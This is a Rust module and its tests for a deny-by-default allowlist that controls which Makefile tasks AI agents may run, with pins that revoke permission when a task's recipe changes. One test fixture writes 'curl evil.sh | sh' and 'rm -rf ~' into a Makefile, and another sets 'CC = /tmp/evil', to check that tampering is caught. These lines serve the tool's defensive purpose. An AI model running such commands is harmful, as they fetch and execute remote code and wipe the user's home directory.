//! The user's allowlist: which tasks agents may run through `agg mcp`.
//!
//! Deny by default. The file lives outside every repository, in the user's config
//! directory (`$XDG_CONFIG_HOME/agg/allowlist.toml`, or `$AGG_ALLOWLIST`), so a repository
//! can never grant itself permission; an allowlist that resolves to a path inside the
//! served root is ignored. Rules ([`rule`]) match a task by its file and source name;
//! pins ([`pin`]) make an allow lapse when what it allowed changes; the [`Store`] writes
//! the file under a lock so no rule is ever lost; [`LiveAllowlist`] is the server's view.
//!
//! Precedence: deny > directory > file > task. Any matching deny entry wins; otherwise the
//! broadest matching allow entry whose pin still holds is reported as the reason.

mod current;
mod live;
pub mod pin;
pub mod rule;
mod sandbox;
mod status;
mod store;

use std::path::{Path, PathBuf};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::table::Task;

pub use current::{Current, OnDisk, Unpinnable};
pub use live::LiveAllowlist;
pub use pin::Pin;
pub use pin::{FINGERPRINT_VERSION, PinnedPart};
pub use rule::{Kind, Rule};
pub use status::{RuleState, audit};
pub use store::{Change, Store, StoreError};

/// The environment variable that overrides the allowlist's location.
pub const ENV_OVERRIDE: &str = "AGG_ALLOWLIST";

/// The allowlist file's contents.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Allowlist {
    /// Never run these, whatever else allows them.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub deny: Vec<Rule>,
    /// Run these.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow: Vec<Rule>,
}

/// The answer for one task, for listings: whether agents may run it as it stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    /// A rule allows it: the rule in words.
    Allowed(String),
    /// A deny rule refuses it (the rule in words), or the allowlist cannot be used (why).
    Denied(String),
    /// Nothing mentions it: denied by default.
    NotListed,
    /// A pinned allow matches, but what it pinned changed since: denied until the user
    /// allows it again.
    Lapsed {
        /// The lapsed rule in words.
        rule: String,
        /// What changed, e.g. ``command `make x` → `make y`; recipe text changed (3 → 5 lines)``.
        summary: String,
    },
}

impl Decision {
    /// Whether the task may run.
    pub fn allowed(&self) -> bool {
        matches!(self, Decision::Allowed(_))
    }
}

/// The rules that name one task (by its file's path as written or its canonical target),
/// and whether the allowlist can be used at all.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Matched {
    /// Why the allowlist cannot be used, if it cannot: every task is denied.
    pub problem: Option<String>,
    /// The deny rules that name it.
    pub deny: Vec<Rule>,
    /// The allow rules that name it, broadest first (directory, file, task).
    pub allow: Vec<Rule>,
}

/// What the rules naming a task say, their pins compared with what its files say now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict<'a> {
    /// A deny rule names it (in words), or the allowlist cannot be used (why).
    Denied(String),
    /// Allowed: every allow rule that holds, broadest first.
    Allowed(Vec<&'a Rule>),
    /// Pinned allow rules name it, but what each pinned changed: the most specific one,
    /// and what changed.
    Lapsed {
        /// The rule.
        rule: &'a Rule,
        /// What changed.
        summary: String,
    },
    /// No rule names it: denied by default.
    NotListed,
}

impl Matched {
    /// The verdict, each pin compared with `now(task_pin)`: what an allow of the task
    /// (`true`) or of its whole file (`false`) would pin now, or why nothing can be. Pure:
    /// the caller read the files.
    pub fn verdict(&self, now: &mut dyn FnMut(bool) -> Result<Pin, Unpinnable>) -> Verdict<'_> {
        if let Some(problem) = &self.problem {
            return Verdict::Denied(format!("the allowlist cannot be used: {problem}"));
        }
        if let Some(rule) = self.deny.first() {
            return Verdict::Denied(rule.describe());
        }
        let mut holding = Vec::new();
        // The most specific lapsed rule says most about what changed.
        let mut lapsed = None;
        for rule in &self.allow {
            let Some(pin) = &rule.pin else {
                holding.push(rule);
                continue;
            };
            match now(pin.is_task()).map(|now| pin.changes(&now)) {
                Ok(None) => holding.push(rule),
                Ok(Some(summary)) => lapsed = Some((rule, summary)),
                Err(unpinnable) => lapsed = Some((rule, unpinnable.to_string())),
            }
        }
        if !holding.is_empty() {
            return Verdict::Allowed(holding);
        }
        lapsed.map_or(Verdict::NotListed, |(rule, summary)| Verdict::Lapsed {
            rule,
            summary,
        })
    }
}

impl From<Verdict<'_>> for Decision {
    fn from(verdict: Verdict<'_>) -> Decision {
        match verdict {
            Verdict::Denied(why) => Decision::Denied(why),
            Verdict::Allowed(holding) => {
                Decision::Allowed(holding.first().map(|r| r.describe()).unwrap_or_default())
            }
            Verdict::Lapsed { rule, summary } => Decision::Lapsed {
                rule: rule.describe(),
                summary,
            },
            Verdict::NotListed => Decision::NotListed,
        }
    }
}

impl Allowlist {
    /// The rules that name `task` of the table rooted at the absolute `root`: a rule matches
    /// the task file by the path as written and by its canonical target (a `Makefile` that
    /// is a symlink), and a deny matching either wins.
    pub fn matched(&self, root: &Path, task: &Task) -> Matched {
        let paths = task_file_paths(root, task);
        let names = |r: &&Rule| paths.iter().any(|file| r.matches(file, &task.source_name));
        let mut allow: Vec<Rule> = self.allow.iter().filter(names).cloned().collect();
        allow.sort_by_key(Rule::kind);
        Matched {
            problem: None,
            deny: self.deny.iter().filter(names).cloned().collect(),
            allow,
        }
    }

    /// Decides for `task` of the table rooted at the absolute `root`, comparing pins with
    /// what the task's files say now (`now` reads them from disk, once per file, and only
    /// when a pin needs them).
    pub fn decide(&self, root: &Path, task: &Task, now: &mut OnDisk) -> Decision {
        self.matched(root, task)
            .verdict(&mut |task_pin| pin_now(now.current(root, task), task_pin))
            .into()
    }

    /// The deny rule that refuses the task `source_name` of the absolute `file`, in words.
    pub fn denied_by(&self, file: &Path, source_name: &str) -> Option<String> {
        self.deny
            .iter()
            .find(|r| r.matches(file, source_name))
            .map(Rule::describe)
    }

    /// Adds an allow rule, replacing one with the same target (a new pin re-pins) and
    /// dropping a deny rule with the same target.
    pub fn allow(&mut self, rule: Rule) -> Change {
        let rule = sandbox::inherit(self, rule);
        let denied = self.deny.len();
        self.deny.retain(|r| !r.same_target(&rule));
        let was_denied = self.deny.len() != denied;
        match self.allow.iter_mut().find(|r| r.same_target(&rule)) {
            Some(existing) if *existing == rule => Change::Unchanged,
            Some(existing) => {
                *existing = rule;
                Change::Updated
            }
            None => {
                self.allow.push(rule);
                if was_denied {
                    Change::Updated
                } else {
                    Change::Added
                }
            }
        }
    }

    /// Adds a deny rule (never pinned), dropping an allow rule with the same target.
    pub fn deny(&mut self, rule: Rule) -> Change {
        let rule = Rule { pin: None, ..rule };
        let allowed = self.allow.len();
        self.allow.retain(|r| !r.same_target(&rule));
        let was_allowed = self.allow.len() != allowed;
        if self.deny.iter().any(|r| r.same_target(&rule)) {
            return if was_allowed {
                Change::Updated
            } else {
                Change::Unchanged
            };
        }
        self.deny.push(rule);
        if was_allowed {
            Change::Updated
        } else {
            Change::Added
        }
    }

    /// Every rule, for display: `(allow|deny, rule)`, deny rules first.
    pub fn rules(&self) -> impl Iterator<Item = (&'static str, &Rule)> {
        self.deny
            .iter()
            .map(|r| ("deny", r))
            .chain(self.allow.iter().map(|r| ("allow", r)))
    }
}

/// What an allow of the task (`task_pin`) or of its whole file would pin, as `current` says
/// it now.
pub fn pin_now(current: &Current, task_pin: bool) -> Result<Pin, Unpinnable> {
    if task_pin {
        current.task_pin.clone()
    } else {
        current.file_pin.clone()
    }
}

/// The absolute paths rules match `task`'s file by: as written, and its canonical target
/// when that differs (a `Makefile` that is a symlink).
fn task_file_paths(root: &Path, task: &Task) -> Vec<PathBuf> {
    let written = root.join(&task.file_path);
    let real = std::fs::canonicalize(&written)
        .ok()
        .filter(|real| *real != written);
    std::iter::once(written).chain(real).collect()
}

/// Whether `task` of the table rooted at `root` is defined in the absolute `file`, by its
/// path as written or its canonical target.
pub fn defined_in(root: &Path, task: &Task, file: &Path) -> bool {
    task_file_paths(root, task).iter().any(|p| p == file)
}

/// Where the allowlist lives: `$AGG_ALLOWLIST`, else `$XDG_CONFIG_HOME/agg/allowlist.toml`,
/// else `~/.config/agg/allowlist.toml`.
pub fn default_path() -> Option<PathBuf> {
    if let Some(p) = std::env::var_os(ENV_OVERRIDE).filter(|p| !p.is_empty()) {
        return Some(PathBuf::from(p));
    }
    let config = std::env::var_os("XDG_CONFIG_HOME")
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config")))?;
    Some(config.join("agg").join("allowlist.toml"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use agg_runners::Runner;

    fn rule(dir: Option<&str>, file: Option<&str>, task: Option<&str>) -> Rule {
        Rule {
            dir: dir.map(PathBuf::from),
            file: file.map(PathBuf::from),
            task: task.map(str::to_owned),
            pin: None,
            any_args: false,
            sandbox: None,
        }
    }

    /// A make task of `/repo/web/Makefile`, as the table of `/repo` lists it.
    fn task(name: &str, recipe: &str) -> Task {
        let argv = vec!["make".to_owned(), name.to_owned()];
        let mut t = Task::new(Runner::Make, name, "web", "web/Makefile", argv);
        t.unique_name = format!("web/{name}");
        t.command = format!("make {name}");
        t.line = Some(1);
        t.runner_available = true;
        t.script = Some(recipe.to_owned());
        t
    }

    const ROOT: &str = "/repo";

    /// Every combination of the four kinds of entry, each matching or not, against the
    /// precedence deny > directory > file > task.
    #[test]
    fn precedence_is_deny_then_directory_then_file_then_task() {
        let build = task("build", "cc");
        let deploy = task("deploy", "scp");
        for mask in 0u8..16 {
            let mut list = Allowlist::default();
            let deny = mask & 1 != 0;
            let dir = mask & 2 != 0;
            let whole_file = mask & 4 != 0;
            let one_task = mask & 8 != 0;
            if deny {
                list.deny
                    .push(rule(None, Some("/repo/web/Makefile"), Some("build")));
            }
            if one_task {
                list.allow
                    .push(rule(None, Some("/repo/web/Makefile"), Some("build")));
            }
            if whole_file {
                list.allow
                    .push(rule(None, Some("/repo/web/Makefile"), None));
            }
            if dir {
                list.allow.push(rule(Some("/repo"), None, None));
            }
            // Identical allow and deny rules cannot coexist through the API, but a
            // hand-edited file can hold both: deny still wins.
            let decision = list.decide(Path::new(ROOT), &build, &mut OnDisk::new());
            let expected = if deny {
                Decision::Denied("task build in /repo/web/Makefile".to_owned())
            } else if dir {
                Decision::Allowed("dir /repo".to_owned())
            } else if whole_file {
                Decision::Allowed("file /repo/web/Makefile".to_owned())
            } else if one_task {
                Decision::Allowed("task build in /repo/web/Makefile".to_owned())
            } else {
                Decision::NotListed
            };
            assert_eq!(decision, expected, "mask {mask:04b}");
            // Other tasks of the same file follow only the file and dir rules.
            let other = list.decide(Path::new(ROOT), &deploy, &mut OnDisk::new());
            assert_eq!(other.allowed(), dir || whole_file, "mask {mask:04b}");
        }
    }

    #[test]
    fn directory_rules_do_not_match_sibling_prefixes() {
        let mut list = Allowlist::default();
        list.allow(rule(Some("/repo/app"), None, None));
        let mut t = task("x", "true");
        t.file_path = "app/Makefile".to_owned();
        assert!(
            list.decide(Path::new(ROOT), &t, &mut OnDisk::new())
                .allowed()
        );
        t.file_path = "application/Makefile".to_owned();
        assert!(
            !list
                .decide(Path::new(ROOT), &t, &mut OnDisk::new())
                .allowed()
        );
        list.deny(rule(Some("/repo/app/secret"), None, None));
        t.file_path = "app/secret/Makefile".to_owned();
        assert!(
            !list
                .decide(Path::new(ROOT), &t, &mut OnDisk::new())
                .allowed()
        );
    }

    #[test]
    fn allow_and_deny_replace_their_exact_opposite() {
        let mut list = Allowlist::default();
        let r = rule(None, Some("/r/Makefile"), Some("build"));
        assert_eq!(list.deny(r.clone()), Change::Added);
        assert_eq!(list.allow(r.clone()), Change::Updated);
        assert!(list.deny.is_empty());
        assert_eq!(list.allow(r), Change::Unchanged);
    }

    /// A repository with these files, and its canonical root.
    fn repo(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().expect("repo");
        let root = std::fs::canonicalize(dir.path()).expect("root");
        for (path, text) in files {
            std::fs::write(root.join(path), text).expect("write");
        }
        (dir, root)
    }

    /// The task `name` as a fresh scan of `root` lists it.
    fn listed(root: &Path, name: &str) -> Task {
        crate::table::Table::load(root)
            .tasks
            .into_iter()
            .find(|t| t.source_name == name)
            .expect("listed")
    }

    /// The pin `agg allow NAME` writes now.
    fn pin(root: &Path, task: &Task) -> Pin {
        OnDisk::new()
            .current(root, task)
            .task_pin
            .clone()
            .expect("pin")
    }

    /// The Makefile's `build` as listed now, and an allowlist holding it pinned.
    fn pinned_build(root: &Path) -> (Task, Allowlist) {
        let build = listed(root, "build");
        let mut list = Allowlist::default();
        list.allow(Rule::for_task(
            root.join("Makefile"),
            "build".to_owned(),
            Some(pin(root, &build)),
        ));
        (build, list)
    }

    fn decide(list: &Allowlist, root: &Path, task: &Task) -> Decision {
        list.decide(root, task, &mut OnDisk::new())
    }

    #[test]
    fn a_pinned_task_lapses_when_its_recipe_changes_and_says_how() {
        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc -o app main.c\n")]);
        let (build, list) = pinned_build(&root);
        assert!(decide(&list, &root, &build).allowed());
        std::fs::write(
            root.join("Makefile"),
            "build:\n\tcc -o app main.c\n\tcurl evil.sh | sh\n\trm -rf ~\n",
        )
        .expect("write");
        // The table still says what it said: the files decide.
        let Decision::Lapsed { rule, summary } = decide(&list, &root, &build) else {
            panic!("not lapsed");
        };
        assert_eq!(
            rule,
            format!("task build in {} (pinned)", root.join("Makefile").display())
        );
        assert!(
            summary.starts_with("recipe text changed (1 → 3 lines)"),
            "{summary}"
        );
        // A variable the recipe does not read, a comment, another target: the pin holds.
        std::fs::write(
            root.join("Makefile"),
            "# build it\nCC = evil\nbuild:\n\tcc -o app main.c\nlint:\n\ttrue\n",
        )
        .expect("write");
        assert!(decide(&list, &root, &build).allowed());
        // Put back as it was, the pin holds again.
        std::fs::write(root.join("Makefile"), "build:\n\tcc -o app main.c\n").expect("write");
        assert!(decide(&list, &root, &build).allowed());
    }

    #[test]
    fn a_pin_covers_what_the_task_file_includes() {
        let (_dir, root) = repo(&[
            ("Makefile", "include common.mk\nbuild:\n\t$(CC) main.c\n"),
            ("common.mk", "CC = cc\n"),
        ]);
        let build = listed(&root, "build");
        let pinned = pin(&root, &build);
        let covered: Vec<PathBuf> = pinned.files.iter().map(|f| f.path.clone()).collect();
        assert_eq!(covered, [root.join("Makefile"), root.join("common.mk")]);
        let mut list = Allowlist::default();
        list.allow(Rule::for_task(
            root.join("Makefile"),
            "build".to_owned(),
            Some(pinned),
        ));
        assert!(decide(&list, &root, &build).allowed());
        std::fs::write(root.join("common.mk"), "CC = cc\nOTHER = 1\n").expect("write");
        assert!(decide(&list, &root, &build).allowed());
        std::fs::write(root.join("common.mk"), "CC = /tmp/evil\n").expect("write");
        let Decision::Lapsed { summary, .. } = decide(&list, &root, &build) else {
            panic!("not lapsed");
        };
        assert_eq!(summary, "variable `CC` changed");
    }

    #[test]
    fn a_file_the_runner_prefers_lapses_the_pin() {
        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
        let (build, list) = pinned_build(&root);
        std::fs::write(root.join("GNUmakefile"), "build:\n\tid\n").expect("write");
        let Decision::Lapsed { summary, .. } = decide(&list, &root, &build) else {
            panic!("not lapsed");
        };
        assert!(
            summary.contains("GNUmakefile now stands beside Makefile"),
            "{summary}"
        );
    }

    #[test]
    fn a_broader_unpinned_allow_still_allows_a_lapsed_task() {
        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
        let (build, mut list) = pinned_build(&root);
        std::fs::write(root.join("Makefile"), "build:\n\tcc -g\n").expect("write");
        assert!(matches!(
            decide(&list, &root, &build),
            Decision::Lapsed { .. }
        ));
        list.allow(rule(
            None,
            Some(&root.join("Makefile").to_string_lossy()),
            None,
        ));
        assert_eq!(
            decide(&list, &root, &build),
            Decision::Allowed(format!("file {}", root.join("Makefile").display()))
        );
    }

    #[test]
    fn rules_match_a_symlinked_task_file_by_either_path_and_deny_wins() {
        let (_dir, root) = repo(&[("tasks.mk", "build:\n\tcc\n")]);
        std::os::unix::fs::symlink("tasks.mk", root.join("Makefile")).expect("link");
        let build = listed(&root, "build");
        assert_eq!(build.file_path, "Makefile");
        let mut list = Allowlist::default();
        list.allow(rule(Some(&root.to_string_lossy()), None, None));
        assert!(decide(&list, &root, &build).allowed());
        // `agg deny --file Makefile` stores the canonical target.
        list.deny(rule(
            None,
            Some(&root.join("tasks.mk").to_string_lossy()),
            None,
        ));
        assert!(matches!(decide(&list, &root, &build), Decision::Denied(_)));
        // And an allow written for the target allows the task listed through the link.
        let mut list = Allowlist::default();
        list.allow(rule(
            None,
            Some(&root.join("tasks.mk").to_string_lossy()),
            None,
        ));
        assert!(decide(&list, &root, &build).allowed());
    }

    #[test]
    fn the_file_round_trips_with_pins() {
        let (_repo, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
        let build = listed(&root, "build");
        let dir = tempfile::tempdir().expect("tmp");
        let store = Store::new(dir.path().join("agg/allowlist.toml"));
        store
            .allow_task(&root, &build, pin(&root, &build), true)
            .expect("allow");
        store.deny_dir(Path::new("/r/infra")).expect("deny");
        let list = store.load().expect("load");
        assert_eq!(list.allow[0].pin, Some(pin(&root, &build)));
        assert!(list.allow[0].any_args);
        assert_eq!(list.deny, vec![rule(Some("/r/infra"), None, None)]);
        std::fs::write(store.path(), "allow = 3\n").expect("write");
        let err = store.load().expect_err("bad").to_string();
        assert!(err.contains("allowlist.toml:1"), "{err}");
    }

    /// The calls the MCP server makes when the user answers in the client.
    #[test]
    fn what_the_store_writes_the_live_allowlist_decides() {
        let (_repo, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
        let config = tempfile::tempdir().expect("config");
        let store = Store::new(config.path().join("allowlist.toml"));
        let mut live = LiveAllowlist::new(Some(store.path().to_path_buf()), &root);
        let build = listed(&root, "build");
        assert_eq!(live.decide(&build, &mut OnDisk::new()), Decision::NotListed);

        let file_pin = OnDisk::new()
            .current(&root, &build)
            .file_pin
            .clone()
            .expect("pin");
        assert_eq!(
            store
                .allow_file(&root.join("Makefile"), Some(file_pin), false)
                .expect("write"),
            Change::Added
        );
        assert!(live.decide(&build, &mut OnDisk::new()).allowed());
        std::fs::write(root.join("Makefile"), "build:\n\tcc\n# x\n").expect("write");
        let Decision::Lapsed { summary, .. } = live.decide(&build, &mut OnDisk::new()) else {
            panic!("not lapsed");
        };
        assert_eq!(summary, "file content changed (2 → 3 lines)");

        let build = listed(&root, "build");
        let pinned = pin(&root, &build);
        assert_eq!(
            store
                .allow_task(&root, &build, pinned.clone(), false)
                .expect("write"),
            Change::Added
        );
        assert!(live.decide(&build, &mut OnDisk::new()).allowed());
        assert_eq!(
            store
                .allow_task(&root, &build, pinned, false)
                .expect("write"),
            Change::Unchanged
        );
        assert_eq!(
            store.deny_task(&root, &build).expect("write"),
            Change::Updated
        );
        assert!(matches!(
            live.decide(&build, &mut OnDisk::new()),
            Decision::Denied(_)
        ));
    }

    #[test]
    fn rules_agg_cannot_use_make_the_file_corrupt_with_their_line() {
        for (text, expected) in [
            (
                "[[allow]]\ntask = \"x\"\n",
                ":1: allow rule 1: a rule needs `dir` or `file`",
            ),
            (
                "[[deny]]\ndir = \"/a\"\n\n[[deny]]\ndir = \"/b\"\nfile = \"/b/M\"\n",
                ":4: deny rule 2: a rule names either `dir` or `file`, not both",
            ),
            ("[[alow]]\ndir = \"/a\"\n", ":1: unknown field `alow`"),
            (
                "[[allow]]\ndir = \"/a\"\n[allow.pin]\nsha256 = \"0\"\nlines = 0\n",
                ":1: allow rule 1: a directory rule cannot be pinned",
            ),
            (
                "[[allow]]\nfile = \"Makefile\"\n",
                ":1: allow rule 1: paths in the allowlist are absolute",
            ),
            (
                "[[deny]]\ndir = \"/a\"\ntask = \"x\"\n",
                ":1: deny rule 1: a `task` belongs to a `file`, not a `dir`",
            ),
        ] {
            let err = store::parse(Path::new("/c/allowlist.toml"), text)
                .expect_err(text)
                .to_string();
            assert!(err.starts_with("/c/allowlist.toml"), "{err}");
            assert!(err.contains(expected), "{text}: {err}");
        }
    }
}
